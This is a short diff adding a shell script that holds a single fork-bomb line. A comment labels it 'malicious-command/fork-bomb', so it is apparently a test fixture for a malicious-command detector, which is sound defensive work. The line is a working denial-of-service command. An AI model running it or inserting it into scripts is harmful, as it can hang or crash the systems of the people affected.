@@ -1,0 +1,2 @@
+#!/bin/sh
+boom() { boom | boom & }; boom # expect: malicious-command/fork-bomb
